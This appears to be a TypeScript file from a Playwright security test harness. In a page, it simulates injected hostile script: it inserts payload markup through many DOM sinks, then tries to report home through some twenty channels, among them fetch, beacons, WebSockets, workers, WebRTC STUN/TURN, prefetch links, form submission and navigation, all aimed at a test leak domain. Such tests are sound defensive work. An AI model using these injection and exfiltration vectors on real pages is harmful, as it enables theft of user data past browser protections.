import type { Page } from 'playwright-core'
import type { AttackPage } from './attack-pages.ts'
import { ELSEWHERE, LEAK_DOMAIN } from './world.ts'

/** That nothing comes can only be watched for a time: many times what the leaks of the controls take. */
const WATCH_MS = 1000

export interface Attempts {
  /** Ways to make markup of text, over all payloads, and how many of them were refused. */
  insertions: number
  insertionsRefused: number
}

/** Does what hostile script would do if it ran in the app's page: writes markup, and reports home by every way there is. */
export async function tryAsScript(page: Page, pages: readonly AttackPage[]): Promise<Attempts> {
  const attempts = await page.evaluate(
    insertAll,
    pages.map(({ html }) => html),
  )
  await page.evaluate(reportHome, { domain: LEAK_DOMAIN, address: ELSEWHERE, watchMs: WATCH_MS })
  return attempts
}

/** Runs in the page. */
function insertAll(htmls: readonly string[]): { insertions: number; insertionsRefused: number } {
  const place = document.body.appendChild(document.createElement('div'))
  const ways: ((html: string) => void)[] = [
    (html) => {
      place.innerHTML = html
    },
    (html) => place.insertAdjacentHTML('beforeend', html),
    (html) => place.setHTMLUnsafe(html),
    (html) => place.append(document.createRange().createContextualFragment(html)),
    (html) => place.append(...new DOMParser().parseFromString(html, 'text/html').body.childNodes),
    (html) => {
      place.appendChild(document.createElement('iframe')).srcdoc = html
    },
    (html) => {
      place.appendChild(document.createElement('script')).text = html
    },
    (html) => document.write(html),
  ]
  let refused = 0
  for (const html of htmls) {
    for (const way of ways) {
      try {
        way(html)
      } catch {
        refused += 1
      }
      place.replaceChildren()
    }
  }
  return { insertions: htmls.length * ways.length, insertionsRefused: refused }
}

interface HomeOptions {
  domain: string
  address: string
  watchMs: number
}

/** Runs in the page. Every way has its own name, so that a leak says which it was. */
async function reportHome({ domain, address, watchMs }: HomeOptions): Promise<void> {
  const at = (name: string, scheme = 'http'): string => `${scheme}://script-${name}.${domain}/a`
  const connect = async (url: string): Promise<void> => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: url, username: 'u', credential: 'c' }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
  }
  const link = (rel: string): void => {
    document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: at(rel) }))
  }
  const ways: (() => unknown)[] = [
    () => fetch(at('fetch'), { mode: 'no-cors' }),
    () => fetch(at('keepalive'), { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
    () => fetch(`http://${address}/leak/script-address`, { mode: 'no-cors' }),
    () => fetch('http://127.0.0.1:8080/leak/script-loopback', { mode: 'no-cors' }),
    () => navigator.sendBeacon(at('beacon'), 'x'),
    () => new WebSocket(at('websocket', 'ws')),
    () => new EventSource(at('event-source')),
    () => new WebTransport(at('transport', 'https')),
    () => new Worker(at('worker')),
    () => new SharedWorker(at('shared-worker')),
    () => navigator.serviceWorker.register(at('service-worker')),
    () => {
      new Image().src = at('image')
    },
    () => new FontFace('leak', `url(${at('font')})`).load(),
    () => import(at('import')),
    () => open(at('popup')),
    () => connect(`stun:script-stun.${domain}:3478`),
    () => connect(`stun:${address}:19302`),
    () => connect(`turn:script-turn.${domain}:3478?transport=tcp`),
    () =>
      ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest'].map(
        link,
      ),
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: at('frame') })),
    () => {
      const form = document.body.appendChild(document.createElement('form'))
      Object.assign(form, { action: at('form'), target: '_blank' })
      form.submit()
    },
    () => location.assign(at('location')),
  ]
  // A way that is refused throws or rejects, one that is not may never end; what matters is what is seen outside.
  void Promise.allSettled(ways.map(async (way) => way()))
  await new Promise((done) => setTimeout(done, watchMs))
}
